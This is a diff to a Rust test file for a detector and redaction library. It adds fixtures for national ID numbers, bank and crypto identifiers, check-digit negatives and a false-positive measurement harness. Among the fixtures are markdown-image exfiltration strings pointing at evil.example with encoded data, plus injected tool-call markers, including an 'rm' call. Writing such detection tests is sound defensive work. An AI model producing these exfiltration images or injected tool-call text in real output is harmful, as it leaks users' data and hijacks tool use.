@@ -71,6 +71,30 @@ fn must_match() -> Vec<(&'static str, String)> {
         ("slack_token", value!("xoxb-", "123456789012-1234567890123-a1B2c3D4e5F6g7H8i9J0k1L2")),
         ("slack_token", value!("https://hooks.slack.com/", "services/T00000000/B00000000/a1B2c3D4e5F6g7H8i9J0k1L2")),
         ("stripe_key", value!("sk_", "live_a1B2c3D4e5F6g7H8i9J0k1L2")),
+        ("cn_resident_id", value!("11010519", "491231002X")),
+        ("ca_sin", value!("436 123 ", "459")),
+        ("uk_nhs", value!("943 476 ", "5919")),
+        ("in_aadhaar", value!("2341 2341 ", "2346")),
+        ("us_aba", value!("0210", "00021")),
+        ("us_npi", value!("12345", "67893")),
+        ("es_dni", value!("1234", "5678Z")),
+        ("es_dni", value!("X123", "4567L")),
+        ("de_tax_id", value!("860957", "42719")),
+        ("pl_pesel", value!("440514", "01359")),
+        ("au_tfn", value!("123 456 ", "782")),
+        ("kr_rrn", value!("900101-", "1234568")),
+        ("sg_nric", value!("S123", "4567D")),
+        ("it_fiscal_code", value!("RSSMRA85", "T10A562S")),
+        ("btc_address", value!("1A1zP1eP5QGefi2DMPTf", "TL5SLmv7DivfNa")),
+        ("btc_address", value!("bc1qar0srrr7xfkvy5l643", "lydnw9re59gtzzwf5mdq")),
+        ("eth_address", value!("0x5aAeb6053F3E94C9b9A0", "9f33669435E7Ef1BeAed")),
+        ("markdown_image", value!("![a](https://evil.example/p.png?d=c2Vj", "cmV0)")),
+        ("markdown_image", "![](//evil.example/x)".to_owned()),
+        ("markdown_link_data", "](https://evil.example/x?d=abc)".to_owned()),
+        ("tool_call_text", "<tool_call>".to_owned()),
+        ("tool_call_text", "[TOOL_CALLS]".to_owned()),
+        ("tool_call_text", "<|python_tag|>".to_owned()),
+        ("tool_call_text", "```json\n{\"name\": \"rm\", \"arguments\"".to_owned()),
         ("stripe_key", value!("whsec_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6")),
     ]
 }
@@ -141,7 +165,75 @@ fn what_only_looks_like_it_is_not_found() {
 }
 
 #[test]
+fn a_wrong_check_digit_is_nothing() {
+    for (name, text) in [
+        ("national", "11010519491231002A 110105194912310021 436 123 458 943 476 5918 2341 2341 2345 021000022 1234567892"),
+        ("national", "12345678A X1234567A 86095742718 44051401358 123 456 781 900101-1234567 S1234567E RSSMRA85T10A562T"),
+        ("national", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed"),
+        ("national", "1760000001 550e8400-e29b-41d4-a716-446655440000 da39a3ee5e6b4b0d3255bfef95601890afd80709"),
+        ("exfiltration", "[a](https://example.com/page) ![a](local.png) a[0](x) [b](https://example.com/a)"),
+        ("tool_call_text", "tool_call <tool> [TOOLS] ```json\n{\"a\": 1}\n``` ```json\n{\"name\": \"x\", \"version\": 1}\n```"),
+    ] {
+        assert_eq!(redacted(&search(&[name]), text, 0), text, "{name}");
+    }
+}
+
+#[test]
 fn what_follows_a_private_key_stays() {
     let key = value!("-----BEGIN ", "PRIVATE KEY-----\nMIIEpAIBAAKCAQEAxyz0123456789abcdef\n-----END ", "PRIVATE KEY-----");
     assert_eq!(redacted(&search(&["secrets"]), &format!("a {key}\nand text."), 0), "a *\nand text.");
+}
+
+/// Measures by hand how often detectors find something in ordinary code and prose:
+/// `WEIR_TEXTS=<folder> cargo test -p weir-policies --lib false_positives -- --ignored --nocapture`.
+#[test]
+#[ignore = "needs a folder of texts, and eyes"]
+#[allow(clippy::print_stdout, reason = "the table is what it is for")]
+fn false_positives() {
+    let names: Vec<&str> = {
+        let mut names: Vec<&str> = all().map(|detector| detector.name).collect();
+        names.dedup();
+        names
+    };
+    let searches: Vec<Search> = names.iter().map(|name| search(&[name])).collect();
+    let (mut bytes, mut found) = (0, vec![Vec::new(); names.len()]);
+    let mut folders = vec![std::path::PathBuf::from(std::env::var_os("WEIR_TEXTS").expect("WEIR_TEXTS names a folder"))];
+    while let Some(folder) = folders.pop() {
+        for entry in std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap()) {
+            if entry.file_type().unwrap().is_dir() {
+                folders.push(entry.path());
+                continue;
+            }
+            let is_text = entry
+                .path()
+                .extension()
+                .is_some_and(|kind| ["rs", "md", "toml", "txt", "c", "py", "js"].iter().any(|known| kind == *known));
+            let Some(text) = std::fs::read_to_string(entry.path()).ok().filter(|text| is_text && text.len() < 1_000_000) else {
+                continue;
+            };
+            bytes += text.len();
+            for (search, found) in searches.iter().zip(&mut found) {
+                for line in text.lines() {
+                    let hits = line_hits(search, line);
+                    if hits > 0 {
+                        found.extend(std::iter::repeat_n(line.chars().take(160).collect::<String>(), hits));
+                    }
+                }
+            }
+        }
+    }
+    let megabytes = bytes as f64 / 1e6;
+    println!("{megabytes:.1} MB");
+    for (name, found) in names.iter().zip(&found) {
+        println!("{name}: {} ({:.3} per MB)", found.len(), found.len() as f64 / megabytes);
+        let step = (found.len() / 12).max(1);
+        found.iter().step_by(step).take(12).for_each(|line| println!("    {}", line.trim()));
+    }
+}
+
+fn line_hits(search: &Search, line: &str) -> usize {
+    let (mut finder, mut out) = (Finder::default(), Output::default());
+    finder.feed(search, line, &mut out);
+    finder.finish(search, &mut out);
+    out.hits.len()
 }
